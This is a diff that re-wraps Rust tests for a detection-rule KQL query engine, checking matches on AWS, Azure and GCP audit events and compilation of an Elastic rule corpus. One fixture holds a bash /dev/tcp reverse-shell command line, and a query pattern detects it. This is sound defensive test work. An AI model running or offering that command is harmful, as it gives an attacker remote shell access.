@@ -42,21 +42,39 @@ fn realistic_aws_rule_queries() {
         "event.dataset:aws.cloudtrail and event.provider:iam.amazonaws.com and event.action:(CreateUser or AttachUserPolicy) and event.outcome:success",
         &d
     ));
-    assert!(!hit("event.dataset:aws.cloudtrail and event.action:(DeleteUser or AttachUserPolicy)", &d));
+    assert!(!hit(
+        "event.dataset:aws.cloudtrail and event.action:(DeleteUser or AttachUserPolicy)",
+        &d
+    ));
     assert!(hit("not user_agent.original:*console*", &d));
     assert!(!hit("not user_agent.original:*aws-cli*", &d));
     assert!(hit("source.ip:10.0.0.0/8", &d));
     assert!(!hit("source.ip:192.168.0.0/16", &d));
     assert!(hit("source.ip:10.20.30.40", &d));
-    assert!(hit("user_agent.original.text:\"python/3.11.4 LINUX\"", &d), "phrase on the text multi-field");
+    assert!(
+        hit("user_agent.original.text:\"python/3.11.4 LINUX\"", &d),
+        "phrase on the text multi-field"
+    );
     // The standard tokenizer keeps `iam.create` whole (letters joined by a dot).
     assert!(!hit("user_agent.original.text:\"create-user\"", &d));
     assert!(hit("user_agent.original.text:\"iam.create-user\"", &d));
-    assert!(hit("user_agent.original.text:PYTHON", &d), "text is case-insensitive");
+    assert!(
+        hit("user_agent.original.text:PYTHON", &d),
+        "text is case-insensitive"
+    );
     assert!(!hit("user_agent.original:PYTHON", &d), "keyword is exact");
-    assert!(hit("aws.cloudtrail.flattened.request_parameters.userName:bob", &d));
-    assert!(hit("aws.cloudtrail.user_identity.type:IAMUser and not aws.cloudtrail.user_identity.type:Root", &d));
-    assert!(hit("event.category:iam and event.type:creation", &d), "multi-valued");
+    assert!(hit(
+        "aws.cloudtrail.flattened.request_parameters.userName:bob",
+        &d
+    ));
+    assert!(hit(
+        "aws.cloudtrail.user_identity.type:IAMUser and not aws.cloudtrail.user_identity.type:Root",
+        &d
+    ));
+    assert!(
+        hit("event.category:iam and event.type:creation", &d),
+        "multi-valued"
+    );
     assert!(hit("related.entity:arn\\:aws\\:iam\\:\\:aws\\:policy*", &d));
     assert!(hit("cloud.account.id:123456789012", &d));
     assert!(hit("aws.cloudtrail.request_parameters:*userName=bob*", &d));
@@ -65,22 +83,37 @@ fn realistic_aws_rule_queries() {
 #[test]
 fn keyword_semantics_case_and_wildcards() {
     let d = create_user();
-    assert!(!hit("event.action:createuser", &d), "keyword term is case-sensitive");
-    assert!(!hit("event.action:create*", &d), "keyword wildcard is case-sensitive");
+    assert!(
+        !hit("event.action:createuser", &d),
+        "keyword term is case-sensitive"
+    );
+    assert!(
+        !hit("event.action:create*", &d),
+        "keyword wildcard is case-sensitive"
+    );
     assert!(hit("event.action:Create*", &d));
     assert!(hit("event.action:*User", &d));
-    assert!(!hit("event.action:Create?ser", &d), "? is not a KQL wildcard");
+    assert!(
+        !hit("event.action:Create?ser", &d),
+        "? is not a KQL wildcard"
+    );
     assert!(hit("user.name:*", &d));
     assert!(!hit("user.email:*", &d));
     assert!(hit("not user.email:*", &d));
-    assert!(!hit("user.email:alice", &d), "missing field never matches a positive clause");
+    assert!(
+        !hit("user.email:alice", &d),
+        "missing field never matches a positive clause"
+    );
     assert!(hit("not user.email:alice", &d));
 }
 
 #[test]
 fn exists_and_keywords_are_case_insensitive() {
     let d = create_user();
-    assert!(hit("user.name:alice AND NOT user.name:bob Or user.name:carol", &d));
+    assert!(hit(
+        "user.name:alice AND NOT user.name:bob Or user.name:carol",
+        &d
+    ));
     assert!(hit("(user.name:alice)", &d));
     assert!(hit("", &d), "empty query matches all");
 }
@@ -108,8 +141,14 @@ fn wildcard_field_names_expand_to_known_and_document_fields() {
         "custom": {"deep": {"thing": "x"}}
     }));
     assert!(hit("azure.auditlogs.properties.target_resources.*.modified_properties.*.new_value: \"\\\"Global Administrator\\\"\"", &d));
-    assert!(hit("azure.auditlogs.properties.target_resources.*.display_name:\"Global Administrator\"", &d));
-    assert!(!hit("azure.auditlogs.properties.target_resources.*.display_name:Guest", &d));
+    assert!(hit(
+        "azure.auditlogs.properties.target_resources.*.display_name:\"Global Administrator\"",
+        &d
+    ));
+    assert!(!hit(
+        "azure.auditlogs.properties.target_resources.*.display_name:Guest",
+        &d
+    ));
     assert!(hit("custom.*:x", &d), "dynamic (unknown) paths");
     assert!(hit("*.thing:x", &d));
     assert!(hit("custom.*:*", &d));
@@ -118,13 +157,18 @@ fn wildcard_field_names_expand_to_known_and_document_fields() {
 
 #[test]
 fn text_fields_and_query_string_splitting() {
-    let d = doc(json!({"message": "Started Netcat listener on port 4444", "process": {"command_line": "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"}}));
+    let d = doc(
+        json!({"message": "Started Netcat listener on port 4444", "process": {"command_line": "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"}}),
+    );
     assert!(hit("message:netcat", &d));
     assert!(hit("message:nothing or message:port", &d));
     assert!(hit("message:foo netcat", &d), "match is OR of tokens");
     assert!(hit("message:\"netcat listener\"", &d));
     assert!(!hit("message:\"listener netcat\"", &d));
-    assert!(hit("message:NET*", &d), "query_string wildcards on text test lowercased tokens");
+    assert!(
+        hit("message:NET*", &d),
+        "query_string wildcards on text test lowercased tokens"
+    );
     assert!(!hit("message:*netcat listener*", &d) || hit("message:*netcat", &d));
     // process.command_line is a `wildcard` field: query_string, case-sensitive whole value.
     assert!(hit("process.command_line:*/dev/tcp/*", &d));
@@ -144,48 +188,83 @@ fn numbers_dates_booleans_ranges() {
     assert!(hit("source.port:4444", &d));
     assert!(hit("source.port >= 4444 and source.port < 5000", &d));
     assert!(!hit("source.port > 4444", &d));
-    assert!(hit("source.bytes <= 100", &d), "long field: numeric even from a string");
-    assert!(hit("@timestamp:2024-05-06", &d), "a date value covers its precision");
+    assert!(
+        hit("source.bytes <= 100", &d),
+        "long field: numeric even from a string"
+    );
+    assert!(
+        hit("@timestamp:2024-05-06", &d),
+        "a date value covers its precision"
+    );
     assert!(!hit("@timestamp:2024-05-07", &d));
-    assert!(hit("@timestamp >= \"2024-05-06T07:00:00Z\" and @timestamp < 2024-05-07", &d));
+    assert!(hit(
+        "@timestamp >= \"2024-05-06T07:00:00Z\" and @timestamp < 2024-05-07",
+        &d
+    ));
     assert!(hit("@timestamp <= 2024-05-06", &d), "lte rounds up");
     assert!(hit("aws.cloudtrail.read_only:false", &d));
     assert!(!hit("aws.cloudtrail.read_only:true", &d));
-    assert!(hit("source.ip >= 10.0.0.0", &doc(json!({"source": {"ip": "10.1.1.1"}}))));
+    assert!(hit(
+        "source.ip >= 10.0.0.0",
+        &doc(json!({"source": {"ip": "10.1.1.1"}}))
+    ));
     // An unmapped field is a dynamic keyword: ranges compare bytes.
-    assert!(hit("o365.audit.OperationCount >= 100", &d) || !hit("o365.audit.OperationCount >= 2", &d));
+    assert!(
+        hit("o365.audit.OperationCount >= 100", &d) || !hit("o365.audit.OperationCount >= 2", &d)
+    );
 }
 
 #[test]
 fn nested_and_not_lists() {
-    let d = doc(json!({"gcp": {"audit": {"service_data": {"policy_delta": {"binding_deltas": [
-        {"action": "ADD", "role": "roles/iam.serviceAccountUser"}
-    ]}}}}}));
+    let d = doc(
+        json!({"gcp": {"audit": {"service_data": {"policy_delta": {"binding_deltas": [
+            {"action": "ADD", "role": "roles/iam.serviceAccountUser"}
+        ]}}}}}),
+    );
     assert!(hit("gcp.audit.service_data.policy_delta.binding_deltas:{ action:\"ADD\" and role:(\"roles/owner\" or \"roles/iam.serviceAccountUser\") }", &d));
-    assert!(!hit("gcp.audit.service_data.policy_delta.binding_deltas:{ action:REMOVE }", &d));
+    assert!(!hit(
+        "gcp.audit.service_data.policy_delta.binding_deltas:{ action:REMOVE }",
+        &d
+    ));
     let e = doc(json!({"user": {"email": "system:serviceaccount:kube-system:x"}}));
-    assert!(hit("user.email:(system\\:serviceaccount\\:* and not system\\:serviceaccount\\:default\\:*)", &e));
+    assert!(hit(
+        "user.email:(system\\:serviceaccount\\:* and not system\\:serviceaccount\\:default\\:*)",
+        &e
+    ));
     assert!(!hit("user.email:(system\\:serviceaccount\\:* and not system\\:serviceaccount\\:kube-system\\:*)", &e));
 }
 
 #[test]
 fn compiled_shape_for_indexing() {
     let p = q("event.provider:iam.amazonaws.com and event.action:(CreateUser or AttachUserPolicy or \"CreateUser\")");
-    assert_eq!(p.required_values("event.provider"), Some(vec!["iam.amazonaws.com".to_string()]));
+    assert_eq!(
+        p.required_values("event.provider"),
+        Some(vec!["iam.amazonaws.com".to_string()])
+    );
     assert_eq!(
         p.required_values("event.action"),
-        Some(vec!["AttachUserPolicy".to_string(), "CreateUser".to_string()])
+        Some(vec![
+            "AttachUserPolicy".to_string(),
+            "CreateUser".to_string()
+        ])
     );
     let w = q("event.action:Create* or event.action:Delete");
     assert_eq!(w.required_values("event.action"), None);
     let n = q("not event.action:CreateUser");
     assert_eq!(n.required_values("event.action"), None);
-    assert!(matches!(q("event.action:(a or b or c)"), Predicate::Terms { ref values, .. } if values.len() == 3));
+    assert!(
+        matches!(q("event.action:(a or b or c)"), Predicate::Terms { ref values, .. } if values.len() == 3)
+    );
 }
 
 #[test]
 fn syntax_errors_have_offsets() {
-    for (query, at) in [("event.action:", 13usize), ("event.action:(a or b", 20), ("a:1 and (b:2", 12), ("a:b\\.c", 3)] {
+    for (query, at) in [
+        ("event.action:", 13usize),
+        ("event.action:(a or b", 20),
+        ("a:1 and (b:2", 12),
+        ("a:b\\.c", 3),
+    ] {
         let e = compile(query, FieldTypes::builtin()).expect_err(query);
         assert_eq!(e.offset, at, "{query}: {e}");
     }
@@ -194,7 +273,8 @@ fn syntax_errors_have_offsets() {
 /// Every KQL rule of the detection-rules corpus compiles (skipped when the corpus is absent).
 #[test]
 fn corpus_rules_compile() {
-    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/detection-rules/rules/integrations");
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../../shared/corpus/detection-rules/rules/integrations");
     if !root.is_dir() {
         eprintln!("corpus not found at {}; skipping", root.display());
         return;
@@ -204,13 +284,29 @@ fn corpus_rules_compile() {
     let mut failures = Vec::new();
     let mut unknown = std::collections::BTreeSet::new();
     for f in files {
-        let Ok(rule) = tripline_rules::Rule::load(&f) else { continue };
+        let Ok(rule) = tripline_rules::Rule::load(&f) else {
+            continue;
+        };
         let kql = rule.language.as_deref().is_none_or(|l| l == "kuery");
-        if !kql || !matches!(rule.rule_type, tripline_rules::RuleType::Query | tripline_rules::RuleType::NewTerms | tripline_rules::RuleType::Threshold) {
+        if !kql
+            || !matches!(
+                rule.rule_type,
+                tripline_rules::RuleType::Query
+                    | tripline_rules::RuleType::NewTerms
+                    | tripline_rules::RuleType::Threshold
+            )
+        {
             continue;
         }
-        let Some(query) = rule.query.as_deref() else { continue };
-        let dir = f.strip_prefix(&root).ok().and_then(|p| p.iter().next()).map(|s| s.to_string_lossy().into_owned()).unwrap_or_default();
+        let Some(query) = rule.query.as_deref() else {
+            continue;
+        };
+        let dir = f
+            .strip_prefix(&root)
+            .ok()
+            .and_then(|p| p.iter().next())
+            .map(|s| s.to_string_lossy().into_owned())
+            .unwrap_or_default();
         let e = per_dir.entry(dir.clone()).or_default();
         match compile(query, FieldTypes::builtin()) {
             Ok(p) => {
@@ -220,7 +316,9 @@ fn corpus_rules_compile() {
                     failures.push(format!("{}: compiled to an all-fields query", f.display()));
                 }
                 for name in p.fields() {
-                    if FieldTypes::builtin().get(&name).is_none() && !tripline_ir::eval::is_field_pattern(&name) {
+                    if FieldTypes::builtin().get(&name).is_none()
+                        && !tripline_ir::eval::is_field_pattern(&name)
+                    {
                         unknown.insert(format!("{dir}: {name}"));
                     }
                 }
@@ -234,7 +332,10 @@ fn corpus_rules_compile() {
     for (dir, (ok, bad)) in &per_dir {
         eprintln!("{dir}: {ok} compiled, {bad} failed");
     }
-    eprintln!("fields not in the type table (queried as dynamic keywords): {}", unknown.len());
+    eprintln!(
+        "fields not in the type table (queried as dynamic keywords): {}",
+        unknown.len()
+    );
     for u in &unknown {
         eprintln!("  {u}");
     }
@@ -244,7 +345,11 @@ fn corpus_rules_compile() {
     let aws = per_dir.get("aws").copied().unwrap_or_default();
     assert!(aws.0 > 0, "no AWS KQL rules found");
     assert_eq!(aws.1, 0, "every AWS KQL rule must compile");
-    assert!(failures.is_empty(), "{} KQL rules failed to compile", failures.len());
+    assert!(
+        failures.is_empty(),
+        "{} KQL rules failed to compile",
+        failures.len()
+    );
 }
 
 /// Elastic's "IAM group creation" rule against the CloudTrail integration's own expected ECS
@@ -252,23 +357,29 @@ fn corpus_rules_compile() {
 #[test]
 fn corpus_rule_fires_on_integration_documents() {
     let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus");
-    let rule_path = corpus.join("detection-rules/rules/integrations/aws/persistence_iam_group_creation.toml");
+    let rule_path =
+        corpus.join("detection-rules/rules/integrations/aws/persistence_iam_group_creation.toml");
     let docs_dir = corpus.join("elastic-cloudtrail-pipeline");
     if !rule_path.is_file() || !docs_dir.is_dir() {
         eprintln!("corpus not found; skipping");
         return;
     }
     let rule = tripline_rules::Rule::load(&rule_path).expect("rule loads");
-    let p = compile(rule.query.as_deref().expect("query"), FieldTypes::builtin()).expect("compiles");
+    let p =
+        compile(rule.query.as_deref().expect("query"), FieldTypes::builtin()).expect("compiles");
     let mut fired = Vec::new();
     let mut total = 0;
     for e in std::fs::read_dir(&docs_dir).expect("dir") {
         let path = e.expect("entry").path();
-        let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
+        let name = path
+            .file_name()
+            .map(|n| n.to_string_lossy().into_owned())
+            .unwrap_or_default();
         if !name.ends_with("-expected.json") {
             continue;
         }
-        let v: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&path).expect("read")).expect("json");
+        let v: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&path).expect("read")).expect("json");
         for d in v["expected"].as_array().into_iter().flatten() {
             let mut d = doc(d.clone());
             // The data stream supplies these constant_keyword fields, not the pipeline.
@@ -281,5 +392,8 @@ fn corpus_rule_fires_on_integration_documents() {
         }
     }
     assert!(total > 10, "expected documents found: {total}");
-    assert_eq!(fired, vec!["test-create-group-json.log-expected.json".to_string()]);
+    assert_eq!(
+        fired,
+        vec!["test-create-group-json.log-expected.json".to_string()]
+    );
 }
